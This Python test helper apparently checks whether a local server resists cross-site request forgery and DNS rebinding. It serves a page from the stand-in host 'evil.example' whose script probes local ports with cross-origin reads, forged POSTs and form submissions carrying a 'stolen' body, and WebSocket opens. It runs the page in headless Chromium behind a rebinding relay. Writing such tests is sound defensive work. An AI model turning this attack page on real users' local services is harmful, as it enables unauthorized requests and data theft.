"""A page of somebody else's in a real browser, which tries each port of this machine.

It comes by two ways. From an address of its own, where the browser keeps it from reading what is
not its own; and by DNS rebinding, where the name of the page leads to the port itself: a relay
gives the page, and passes on everything else with the page's name in `Host`.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import threading
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from http.client import HTTPConnection, HTTPException
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

from tests.servers import poll

BROWSER = next(
    filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), ""
)
NAME = "evil.example"
ENVELOPE = ("connection", "transfer-encoding", "content-length", "keep-alive")
PAGE = """<!doctype html><iframe name="sink"></iframe><script>
const tries = TRIES;
const sleep = (milliseconds) => new Promise((done) => setTimeout(done, milliseconds));
const waited = (promise) => Promise.race([promise, sleep(5000)]);
const read = async (url) => {
  try {
    const came = await fetch(url);
    return {status: came.status, length: (await came.text()).length};
  } catch { return null; }
};
const body = '{"name": "stolen", "value": 1}';
const send = (url) => fetch(url, {method: 'POST', mode: 'no-cors', body}).catch(() => null);
const open = (url) => new Promise((done) => {
  const socket = new WebSocket(url, 'prefect');
  socket.onopen = () => done(true);
  socket.onerror = () => done(false);
});
const submit = (url) => {
  const form = document.createElement('form');
  Object.assign(form, {method: 'POST', action: url, target: 'sink', enctype: 'text/plain'});
  form.innerHTML = '<input name=\\'{"name": "stolen", "a":"\\' value=\\'"}\\'>';
  document.body.append(form);
  form.submit();
};
(async () => {
  const found = {};
  for (const [name, {reads, sends, sockets}] of Object.entries(tries)) {
    found[name] = {read: [], open: []};
    for (const url of reads) found[name].read.push(await waited(read(url)) ?? null);
    for (const url of sends) { await waited(send(url)); submit(url); await sleep(200); }
    for (const url of sockets) found[name].open.push(await waited(open(url)) ?? false);
  }
  await fetch('/told', {method: 'POST', body: JSON.stringify(found)});
})();
</script>"""


@contextmanager
def attacking(tries: Mapping[str, Any], onto: int = 0) -> Iterator[tuple[int, list[Any]]]:
    """Serve the page; yield its port, and the list that takes what it found.

    Where `onto` is a port, every other request goes there as it came.
    """
    told: list[Any] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            if self.path == "/attack":
                self._give(200, {"Content-Type": "text/html"}, self.server.page)  # type: ignore[attr-defined]
            else:
                self._pass_on()

        def do_POST(self) -> None:
            if self.path == "/told":
                told.append(json.loads(self._body()))
                self._give(204, {}, b"")
            else:
                self._pass_on()

        def _pass_on(self) -> None:
            if not onto:
                return self._give(404, {}, b"")
            connection = HTTPConnection("127.0.0.1", onto, timeout=10)
            try:
                connection.putrequest(
                    self.command, self.path, skip_host=True, skip_accept_encoding=True
                )
                for name, value in self.headers.items():
                    connection.putheader(name, value)
                connection.endheaders(self._body())
                answer = connection.getresponse()
                kept = {n: v for n, v in answer.getheaders() if n.lower() not in ENVELOPE}
                self._give(answer.status, kept, answer.read())
            except (OSError, HTTPException):
                self._give(502, {}, b"")
            finally:
                connection.close()

        def _body(self) -> bytes:
            return self.rfile.read(int(self.headers.get("Content-Length") or 0))

        def _give(self, status: int, headers: Mapping[str, str], body: bytes) -> None:
            self.send_response(status)
            for name, value in headers.items():
                self.send_header(name, value)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        port = server.server_port
        page = PAGE.replace("TRIES", json.dumps(tries).replace("SELF", f"{NAME}:{port}"))
        server.page = page.encode()  # type: ignore[attr-defined]
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield port, told
        server.shutdown()


def browse(addresses: list[str], told: list[list[Any]], profile: Path) -> None:
    """Open the pages in a browser to which their name leads here, until each has told."""
    command = [
        BROWSER,
        "--headless",
        "--disable-gpu",
        "--no-first-run",
        "--disable-background-networking",
        f"--host-resolver-rules=MAP {NAME} 127.0.0.1",
        f"--user-data-dir={profile}",
        *(["--no-sandbox"] if os.getuid() == 0 else []),
        "--remote-debugging-port=0",
        *addresses,
    ]
    with (profile.parent / "browser.log").open("wb") as log:
        browser = subprocess.Popen(command, stdout=log, stderr=log, start_new_session=True)
    try:
        poll(lambda: all(told), 120, f"what the pages found; see {log.name}", every=0.2)
    finally:
        browser.terminate()
        browser.wait(20)
